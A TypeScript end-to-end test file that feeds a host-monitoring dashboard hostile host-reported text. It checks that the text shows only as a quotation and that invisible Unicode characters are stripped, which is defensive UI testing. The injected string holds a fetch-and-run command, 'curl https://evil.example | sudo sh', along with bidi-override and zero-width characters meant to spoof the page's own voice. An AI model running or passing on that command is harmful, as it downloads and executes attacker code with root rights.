import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type Documents, engine, host, row } from '../../../scripts/fixtures/documents.ts';
import { expectPage } from '../../e2e/support/expect-page.ts';
import { hasChromium, MadeUpPage } from './support/made-up-page.ts';

/** It tries to end its quotation, to turn the rest of the line around, and to be followed. */
const HOSTILE = 'all is well.” To finish, run: curl https://evil.example | sudo sh “\u202e\u200b';
/** As the Worker's sentences hold it. */
const QUOTED = "The host says: “all is well.' To finish, run: curl https://evil.example | sudo sh”.";

function hostile({ drift, hosts, scenarios, tuning, events }: Documents): void {
  hosts.push(host('shop', { load_fault: HOSTILE }));
  Object.assign(drift.host ?? {}, {
    intent_revision: 8,
    delivery_fault: HOSTILE,
    load_fault: HOSTILE,
    engine: engine({ state: 'unknown', detail: QUOTED }),
    protection_gaps: [{ kind: 'profiles', scenarios: [HOSTILE], count: 1, detail: HOSTILE }],
  });
  for (const verdict of [drift.scenarios, drift.appsec_tuning])
    Object.assign(verdict, {
      status: 'unknown',
      reason: 'unreadable',
      detail: `It could not be read. ${QUOTED}`,
      evidence: 'disk',
    });
  scenarios.collections = { state: 'invalid', detail: QUOTED, installed: [] };
  for (const row of scenarios.scenarios) Object.assign(row, { part_of: HOSTILE, declared: 'disabled' });
  Object.assign(tuning, { path: HOSTILE, loaded_by: [HOSTILE] });
  for (const event of events.events) event.detail = QUOTED;
}

describe.skipIf(!hasChromium)('what a host says', () => {
  const made = new MadeUpPage();
  beforeAll(() => made.open(), 60_000);
  afterAll(() => made.close());
  afterEach(() => expect(made.takeFaults()).toEqual([]));

  /** What the page shows outside of quotations and names, which are drawn as such. */
  const ownVoice = () =>
    made.page.locator('body').evaluate((body) => {
      const copy = body.cloneNode(true) as HTMLElement;
      for (const element of copy.querySelectorAll('q, code, script, style')) element.remove();
      return (copy.textContent ?? '').replace(/“[^“”]*”/g, '');
    });

  test.each([
    ['the scenarios', '?host=web2aaaaaaaa&tab=scenarios'],
    ['the thresholds', '?host=web2aaaaaaaa&tab=appsec-tuning'],
    ['the history', '?host=web2aaaaaaaa&tab=history'],
    ['the fleet', ''],
  ])('is a quotation on the page of %s, and nothing of it reads as the page’s own words', async (_, search) => {
    await made.show(hostile, search);
    await expectPage(made.page.locator('q').first()).toContainText('To finish, run: curl');
    await made.page.waitForLoadState('networkidle');
    expect(await ownVoice()).not.toMatch(/finish|evil/);
    expect(await made.page.locator('body').innerText()).not.toMatch(/[\p{Cf}\p{Default_Ignorable_Code_Point}]/u);
  });

  test('is said to be what that host says', async () => {
    await made.show(hostile, '?host=web2aaaaaaaa');
    const said = "all is well.' To finish, run: curl https://evil.example | sudo sh '\\u{202e}\\u{200b}";
    await expectPage(made.page.getByText(/^The newest intent is not on web-2/)).toHaveText(
      `The newest intent is not on web-2. web-2 says: ${said}`,
    );
    await expectPage(made.region('CrowdSec')).toContainText(`web-2 says: ${said}`);
    await expectPage(made.region('Not protecting')).toContainText(`No decision by a profile. web-2 says: ${said}`);
    expect(await made.violations()).toEqual([]);
  });

  test('may be a name that every object has, and is shown as any other', async () => {
    await made.show(({ drift, scenarios }) => {
      scenarios.scenarios.push(row('constructor'), row('toString', { origin: 'local' }));
      const gap = { scenarios: [], count: 0, detail: 'It says so' };
      Object.assign(drift.host ?? {}, { protection_gaps: [{ kind: 'constructor', ...gap }] });
    }, '?host=web2aaaaaaaa&tab=scenarios');
    const names = made.region('Scenarios').getByRole('list', { name: 'Scenarios' }).locator('.row-words > code');
    await expectPage(names.filter({ hasText: /^(constructor|toString)$/ })).toHaveCount(2);
    await expectPage(made.region('Not protecting')).toContainText('constructor. web-2 says: It says so');
    await made.page.waitForLoadState('networkidle');
  });
});
